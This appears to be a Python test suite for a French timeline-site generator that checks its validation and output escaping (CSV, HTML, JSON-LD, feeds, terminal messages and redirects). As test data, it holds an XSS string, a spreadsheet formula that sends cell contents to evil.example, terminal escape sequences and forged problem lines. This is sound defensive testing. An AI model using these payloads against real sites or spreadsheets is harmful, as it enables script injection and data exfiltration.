"""Issue 13, section 5: every value is validated whole, every output is safe for its consumer, and
values echoed to a terminal cannot forge lines.

Each test here failed before its fix: ``$`` accepted a final newline, ``\\d`` any script's digits,
TimelineJS got raw HTML in its text fields, spreadsheet cells could start a formula, a newline
in a value printed a second, forged, problem line.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from chronicle.dates import DateError, parse_edtf
from chronicle.pipeline import check_site
from chronicle.schema import Typer, compiled_pattern, load_schema
from tests.conftest import FIXTURE, REPO, make_project

SCHEMAS = sorted((REPO / "schema").glob("*.schema.json"))


def walk(node: Any, path: str = "") -> list[tuple[str, dict[str, Any]]]:
    """Every sub-schema (a mapping) of ``node`` with its JSON pointer."""
    found: list[tuple[str, dict[str, Any]]] = []
    if isinstance(node, dict):
        found.append((path, node))
        for key, value in node.items():
            found += walk(value, f"{path}/{key}")
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += walk(value, f"{path}/{index}")
    return found


def schema_patterns() -> list[tuple[str, str]]:
    """(``file#pointer``, pattern) for every ``pattern`` of ``schema/``."""
    return [(f"{file.name}#{pointer}", sub["pattern"])
            for file in SCHEMAS for pointer, sub in walk(json.loads(file.read_text(encoding="utf-8")))
            if isinstance(sub.get("pattern"), str)]


# A value each pattern accepts, to show that the same value with a newline after it is refused.
VALID = {
    "^(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\\.)+[a-z]{2,}(?:,[0-9]{4}(?:-[0-9]{2}(?:-[0-9]{2})?)?)$":
        "canaux-militaires.github.io,2024",
    "^[a-z0-9]+(-[a-z0-9]+)*$": "lloyd-austin",
    "^[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(\\.[A-Za-z0-9-]+)+$": "redaction@exemple.org",
    "^[a-z]{2}$": "fr",
    "^[A-Z]{2}$": "US",
    "^[0-9]{4}-[0-9]{2}-[0-9]{2}$": "2022-05-13",
    "^/evenements/[a-z0-9]+(-[a-z0-9]+)*/$": "/evenements/appel/",
    "^/acteurs/[a-z0-9]+(-[a-z0-9]+)*/$": "/acteurs/mark-milley/",
    "^/canaux/[a-z0-9]+(-[a-z0-9]+)*/$": "/canaux/ligne/",
    "^/sources/[a-z0-9]+(-[a-z0-9]+)*/$": "/sources/cnn/",
    "^/sources/[a-z0-9]+(-[a-z0-9]+)*/#[A-Za-z0-9_-]+$": "/sources/cnn/#passage-1",
}
PATTERNS = schema_patterns()


def test_every_schema_pattern_is_anchored_and_has_a_known_valid_value() -> None:
    # JSON Schema patterns are searches: an unanchored one accepts anything that contains a match.
    assert PATTERNS, "no pattern found: the walk is broken"
    for where, pattern in PATTERNS:
        assert pattern.startswith("^") and pattern.endswith("$"), where
        assert pattern in VALID, f"{where}: add a valid value for {pattern!r} to VALID"


def typed(pattern: str, value: str) -> tuple[Any, list[str]]:
    """``value`` typed by a string schema with ``pattern``: the value and the problems' messages."""
    typer = Typer("x.yaml", {}, {}, {})
    result = typer.value(value, {"type": "string", "pattern": pattern}, "field")
    return result, [problem.message for problem in typer.problems]


@pytest.mark.parametrize("suffix", ["\n", "\r\n", "\r", "\n\n", "\u2028", " "])
@pytest.mark.parametrize(("where", "pattern"), PATTERNS, ids=[w for w, _ in PATTERNS])
def test_a_pattern_refuses_its_valid_value_with_a_line_break_after(where: str, pattern: str, suffix: str) -> None:
    value = VALID[pattern]
    assert typed(pattern, value) == (value, [])
    result, messages = typed(pattern, value + suffix)
    assert result is None and len(messages) == 1, where
    result, messages = typed(pattern, suffix + value)
    assert result is None and len(messages) == 1, where


def test_schema_patterns_match_ascii_classes_only() -> None:
    # JSON Schema (ECMA-262) \d and \w are ASCII; Python's str patterns are Unicode unless told.
    assert compiled_pattern("^\\d{2}$").fullmatch("٤٢") is None
    assert compiled_pattern("^\\d{2}$").fullmatch("42") is not None


def test_an_unanchored_pattern_is_a_schema_error_not_a_search() -> None:
    with pytest.raises(ValueError, match="anchored"):
        compiled_pattern("[a-z]+")


def test_integers_are_whole_ascii_numbers() -> None:
    typer = Typer("x.yaml", {}, {}, {})
    assert typer.value("84", {"type": "integer"}, "days") == 84
    for bad in ("84\n", "٨٤", "８４", " 84"):
        assert typer.value(bad, {"type": "integer"}, "days") is None, repr(bad)


EVENT = "content/events/2021-contacts-repetes.yaml"
ACTOR = "content/actors/mark-milley.yaml"
SOURCE = "content/sources/cnn-2022-05-13.yaml"


def fixture_text(path: str) -> str:
    return (FIXTURE / path).read_text(encoding="utf-8")


def check_problems(tmp_path: Path, files: dict[str, str]) -> list[str]:
    return [f"{p.path}: {p.field}: {p.message}" for p in check_site(make_project(tmp_path, files)).problems]


@pytest.mark.parametrize(("path", "old", "new", "field"), [
    (EVENT, "kind: statement", 'kind: statement\naliases: ["ancien-nom\\n"]', "aliases.0"),
    (EVENT, "kind: statement", "kind: statement\naliases:\n  - |\n    ancien-nom\n", "aliases.0"),
    (EVENT, "actors: [mark-milley]", 'actors: ["mark-milley\\n"]', "actors.0"),
    (EVENT, "source: cnn-2022-05-13", 'source: "cnn-2022-05-13\\n"', "citations.0.source"),
    (EVENT, "date: 2021~", 'date: "2021~\\n"', "date"),
    (EVENT, "date: 2021~", "date: ٢٠٢١~", "date"),
    (EVENT, "date: 2021~", "date: ２０２１~", "date"),
    (ACTOR, "country: US", 'country: "US\\n"', "country"),
    (SOURCE, "language: fr", 'language: "fr\\n"', "language"),
    (SOURCE, "published: 2022-05-13", "published: 2022-0５-13", "published"),
    ("content/site.yaml", "language: fr", 'language: "fr\\n"', "language"),
    ("content/site.yaml", "  call:\n", '  "call\\n":\n', "kinds.call\n"),
    ("content/site.yaml", "  call:\n", '  "<b>call":\n', "kinds.<b>call"),
])
def test_a_value_with_a_hidden_newline_or_foreign_digits_is_refused(
        tmp_path: Path, path: str, old: str, new: str, field: str) -> None:
    text = fixture_text(path)
    assert old in text
    found = check_problems(tmp_path, {path: text.replace(old, new, 1)})
    assert any(line.startswith(f"{path}: {field}: ") for line in found), found


def test_edtf_takes_ascii_digits_only() -> None:
    for text in ("٢٠٢٢-05-13", "2022-۰۵-13", "２０２２", "2022-05-1\u0663", "2022-05-13/２０２３"):
        with pytest.raises(DateError):
            parse_edtf(text)
    assert parse_edtf("2022-05-13").start is not None


def test_the_new_command_refuses_an_id_with_a_newline(tmp_path: Path) -> None:
    from chronicle.new import ID_PATTERN

    assert ID_PATTERN.fullmatch("appel-x\n") is None
    assert re.fullmatch(ID_PATTERN, "appel-x") is not None


def test_every_list_and_free_mapping_of_the_input_schemas_is_bounded() -> None:
    for file in SCHEMAS:
        for pointer, sub in walk(json.loads(file.read_text(encoding="utf-8"))):
            if file.name == "chronologie.schema.json" and pointer.count("/") <= 2:
                continue  # the export's top-level collections: as many as the content has records
            if sub.get("type") == "array":
                assert "maxItems" in sub, f"{file.name}#{pointer}"
            if isinstance(sub.get("additionalProperties"), dict):
                assert "maxProperties" in sub and "propertyNames" in sub, f"{file.name}#{pointer}"


def test_a_list_over_its_maximum_is_one_problem_and_its_items_are_not_checked(tmp_path: Path) -> None:
    many = ", ".join(f"inconnu-{n}" for n in range(5000))
    text = fixture_text(EVENT).replace("actors: [mark-milley]", f"actors: [{many}]")
    found = check_problems(tmp_path, {EVENT: text})
    assert [line for line in found if "actors" in line] == [
        f"{EVENT}: actors: liste trop longue (5 000 éléments ; maximum 50)."]


def test_load_schema_reads_the_repository_schemas() -> None:
    assert load_schema(str(REPO / "schema"), "event")["type"] == "object"


# --- values echoed to a terminal -------------------------------------------------------------

FORGED = "x\ncontent/events/faux.yaml:1:1: title: faux problème"


def forging_project(tmp_path: Path) -> Path:
    """The fixture with one problem whose message quotes a value holding a newline (the one control
    character a YAML value may hold), and a file whose name holds an escape sequence and a newline."""
    text = fixture_text(EVENT).replace("actors: [mark-milley]", f"actors: [{json.dumps(FORGED)}]")
    return make_project(tmp_path, {EVENT: text, "content/events/a\x1b[31m\nb.yaml": "title: x\n"})


def hidden_characters(text: str) -> list[str]:
    """The characters of ``text`` a terminal acts on, the line ends aside."""
    import unicodedata

    return [char for char in text.replace("\n", "")
            if unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp")]


def test_a_newline_in_a_value_does_not_forge_a_problem_line(tmp_path: Path) -> None:
    from tests.conftest import run_cli

    result = run_cli(forging_project(tmp_path), "check")
    lines = result.stderr.splitlines()
    assert result.returncode == 1
    assert len(lines) == 3, lines  # two problems and the count
    assert lines[-1].startswith("2 problèmes dans 2 fichiers")
    assert not any(line.startswith("content/events/faux.yaml") for line in lines)
    assert "« x\\u000acontent/events/faux.yaml:1:1: title: faux problème »" in result.stderr
    assert hidden_characters(result.stderr) == []


def test_github_annotations_cannot_be_forged_or_cut(tmp_path: Path) -> None:
    from tests.conftest import run_cli

    result = run_cli(forging_project(tmp_path), "check", "--format", "github")
    lines = result.stdout.splitlines()
    assert len(lines) == 2 and all(line.startswith("::error file=content/events/") for line in lines), lines
    assert hidden_characters(result.stdout + result.stderr) == []


def test_a_github_annotation_escapes_its_properties_and_message() -> None:
    from chronicle.cli import format_problem
    from chronicle.problems import Problem

    problem = Problem("content/a%0A,b:c.yaml", 3, 4, "title", "« 100%\r\n::error::faux »", "")
    line = format_problem(problem, "github")
    assert line == ("::error file=content/a%250A%2Cb%3Ac.yaml,line=3,col=4::title : "
                    "« 100%25\\u000d\\u000a::error::faux »")


def test_french_spaces_stay_readable_in_messages() -> None:
    from chronicle.problems import Problem

    problem = Problem("content/a.yaml", 1, 2, "quote", "passage « l’appel\u00a0» introuvable\u202f!")
    assert problem.format() == "content/a.yaml:1:2: quote: passage « l’appel\u00a0» introuvable\u202f!"


def test_an_internal_error_message_is_printable(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    from chronicle import cli

    def broken(args: Any) -> int:
        raise RuntimeError("chemin\nfaux.yaml:1:1: \x1b[31m")

    monkeypatch.setitem(cli.__dict__, "command_check", broken)
    monkeypatch.setattr(cli.gc, "disable", lambda: None)  # main() turns the collector off for the process
    code = cli.main(["--root", str(tmp_path), "check"])
    err = capsys.readouterr().err
    assert code == cli.EXIT_INTERNAL and len(err.splitlines()) == 1 and hidden_characters(err) == []


# --- every export, hostile values in every field, read back by its consumer -------------------

# One hostile value per leading character a spreadsheet evaluates; each also carries HTML that
# innerHTML would run, a </script> that would end a JSON-LD block, and what breaks XML and CSV.
ATTACK = '<img src=x onerror=alert(1)></script><!--&amp;"\',;'


def hostile(lead: str) -> str:
    return f'{lead}HYPERLINK("https://evil.example/?"&A1){ATTACK}'


def quoted(value: str) -> str:
    """``value`` as a YAML single-quoted scalar: every character as is."""
    return "'" + value.replace("'", "''") + "'"


EVENT_PAGE = "content/events/2022-05-13-appel-austin-choigou.yaml"
HOSTILE_VALUES = {  # path: {line's start: hostile value}
    "content/site.yaml": {"title:": hostile("="), "subtitle:": hostile("+"), "    label:": hostile("@")[:60]},
    EVENT_PAGE: {"title:": hostile("="), "date_note:": hostile("-"), "summary:": hostile("@") + " *Markdown*",
                 "annotation:": hostile("+")},
    "content/actors/lloyd-austin.yaml": {"name:": hostile("@")},
    "content/channels/austin-choigou.yaml": {"name:": hostile("=")},
    "content/sources/cnn-2022-05-13.yaml": {"title:": hostile("-")},
}


def as_markdown(value: str) -> str:
    """The text Markdown shows for ``value``: its one entity (``&amp;``) read as ``&``."""
    return value.replace("&amp;", "&")


def hostile_files() -> dict[str, str]:
    """The fixture's files with a hostile value in every text field an export or the feed carries,
    a hostile quote cited from the source, and an alias (for ``_redirects``)."""
    files: dict[str, str] = {}
    for path, values in HOSTILE_VALUES.items():
        lines = fixture_text(path).splitlines()
        for start, value in values.items():
            found = [n for n, line in enumerate(lines) if line.startswith(start)]
            assert found, (path, start)  # the first one: the label of the first kind
            key = start.split(":")[0].rstrip()
            lines[found[0]] = f"{key}: {quoted(value)}"
        files[path] = "\n".join(lines) + "\n"
    files[EVENT_PAGE] += "aliases: [ancien-appel]\n"
    files[EVENT_PAGE] = files[EVENT_PAGE].replace(
        "citations:\n", f"citations:\n  - source: cnn-2022-05-13\n    quote: {quoted(hostile('='))}\n")
    source = "content/sources/cnn-2022-05-13.txt"
    files[source] = fixture_text(source) + "\n" + hostile("=") + "\n"
    return files


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The fixture site built from ``hostile_files``."""
    from chronicle.pipeline import build_files

    return build_files(make_project(tmp_path_factory.mktemp("hostile"), hostile_files()))


def test_the_hostile_project_is_valid_content(tmp_path: Path) -> None:
    assert check_problems(tmp_path, hostile_files()) == []


def test_no_csv_cell_is_a_formula_and_every_value_reads_back(hostile_site: dict[str, bytes]) -> None:
    import csv
    import io

    from chronicle.export import FORMULA_STARTS

    text = hostile_site["donnees/evenements.csv"].decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)
                or cell.lstrip(" \u00a0")[:1] in ("=", "+", "-", "@")]
    row = next(row for row in rows if row["id"] == "2022-05-13-appel-austin-choigou")
    assert row["titre"] == "'" + hostile("=")
    assert row["note_sur_la_date"] == "'" + hostile("-")
    assert row["nature"] == "'" + hostile("@")[:60]
    assert row["acteurs"] == "'" + hostile("@") + "; Sergueï Choïgou"
    assert row["initiateur"] == "'" + hostile("@")
    assert row["canaux"] == "'" + hostile("=")
    assert row["resume"] == "'" + as_markdown(hostile("@")) + " Markdown"
    assert row["annotation"] == "'" + as_markdown(hostile("+"))
    assert row["sources"] == "'" + hostile("-")
    assert f"« {hostile('=')} »" in row["citations"]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0@x"])
def test_a_cell_that_a_spreadsheet_would_evaluate_is_written_as_text(value: str) -> None:
    from chronicle.export import spreadsheet_cell

    assert spreadsheet_cell(value) == "'" + value
    assert spreadsheet_cell("Appel du 13 mai = premier") == "Appel du 13 mai = premier"


class Markup:
    """What an HTML parser (innerHTML's rules, for text) makes of a field: its tags, attributes and text."""

    def __init__(self, text: str) -> None:
        from html.parser import HTMLParser

        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text = ""
        markup = self

        class Parser(HTMLParser):
            def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
                markup.tags.append((tag, attrs))

            def handle_data(self, data: str) -> None:
                markup.text += data

            def handle_comment(self, data: str) -> None:
                markup.tags.append(("!--", []))

        parser = Parser(convert_charrefs=True)
        parser.feed(text)
        parser.close()


def test_every_timelinejs_text_field_is_html_that_shows_the_value(hostile_site: dict[str, bytes]) -> None:
    data = json.loads(hostile_site["donnees/timelinejs.json"])
    title = Markup(data["title"]["text"]["headline"])
    assert (title.tags, title.text) == ([], hostile("="))
    subtitle = Markup(data["title"]["text"]["text"])
    assert (subtitle.tags, subtitle.text) == ([("p", [])], hostile("+"))
    for slide in data["events"]:
        for field in (slide["display_date"], slide["group"], slide["text"]["headline"]):
            assert Markup(field).tags == [], field
        body = Markup(slide["text"]["text"])
        assert {tag for tag, _ in body.tags} <= {"p", "a", "em", "strong", "code"}, body.tags
        assert all(name == "href" and (value or "").startswith("https://")
                   for _, attrs in body.tags for name, value in attrs), body.tags
    slide = next(s for s in data["events"] if s["unique_id"] == "2022-05-13-appel-austin-choigou")
    assert Markup(slide["group"]).text == hostile("=")
    assert Markup(slide["text"]["headline"]).text == hostile("=")
    assert Markup(slide["text"]["text"]).text.startswith(as_markdown(hostile("@")) + " Markdown")


def test_the_json_export_carries_the_values_as_written(hostile_site: dict[str, bytes]) -> None:
    data = json.loads(hostile_site["donnees/chronologie.json"])
    event = next(e for e in data["events"] if e["id"] == "2022-05-13-appel-austin-choigou")
    assert event["title"] == hostile("=") and event["annotation"] == hostile("+")
    assert {"source": "cnn-2022-05-13", "quote": hostile("=")} in [
        {"source": c["source"], "quote": c["quote"]} for c in event["citations"]]


def walk_values(node: Any) -> list[tuple[str, Any]]:
    """Every scalar of a JSON document with its key."""
    if isinstance(node, dict):
        return [pair for key, value in node.items() for pair in
                (walk_values(value) if isinstance(value, (dict, list)) else [(key, value)])]
    if isinstance(node, list):
        return [pair for value in node for pair in walk_values(value)]
    return [("", node)]


def test_json_ld_cannot_end_its_script_and_reads_back(hostile_site: dict[str, bytes]) -> None:
    page = hostile_site["evenements/2022-05-13-appel-austin-choigou/index.html"].decode("utf-8")
    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, flags=re.DOTALL)
    assert blocks
    for block in blocks:
        assert "<" not in block and ">" not in block  # neither </script> nor <!-- can close or hide it
        strings = [value for _, value in walk_values(json.loads(block))]
        assert hostile("=") in strings


def test_the_feed_reads_back_with_a_feed_reader(hostile_site: dict[str, bytes]) -> None:
    import feedparser

    feed = feedparser.parse(hostile_site["flux.xml"])
    assert not feed.bozo, feed.get("bozo_exception")
    assert feed.feed.title == hostile("=")
    entry = next(e for e in feed.entries if e.link.endswith("/evenements/2022-05-13-appel-austin-choigou/"))
    assert entry.title == hostile("=")
    assert "<img" not in entry.summary and "onerror" not in Markup(entry.summary).tags.__repr__()
    assert as_markdown(hostile("@")) in Markup(entry.summary).text


def test_redirect_rules_are_one_rule_a_line_whatever_the_base_url(hostile_site: dict[str, bytes]) -> None:
    from chronicle.export import line_field

    rules = [line for line in hostile_site["_redirects"].decode("utf-8").splitlines() if not line.startswith("#")]
    assert "/evenements/ancien-appel/ /evenements/2022-05-13-appel-austin-choigou/ 301" in rules
    assert all(len(rule.split(" ")) == 3 for rule in rules)
    assert line_field("/a b\n/ /x 200\u2028") == "/a%20b%0A/%20/x%20200%E2%80%A8"
    assert line_field("/evenements/appel/") == "/evenements/appel/"


@pytest.mark.parametrize("base_url", ["https://x.example/a b/", "https://x.example/a\n/ /evil 200", "https://x.example/\n",
                                      "https://x.example/\u2028", "javascript:alert(1)"])
def test_a_base_url_given_on_the_command_line_is_checked_as_the_files(tmp_path: Path, base_url: str) -> None:
    from tests.conftest import run_cli

    result = run_cli(make_project(tmp_path), "build", "--base-url", base_url)
    assert result.returncode == 1 and result.stderr.startswith("--base-url: adresse « "), result.stderr
    assert not (tmp_path / "project" / "site").exists()
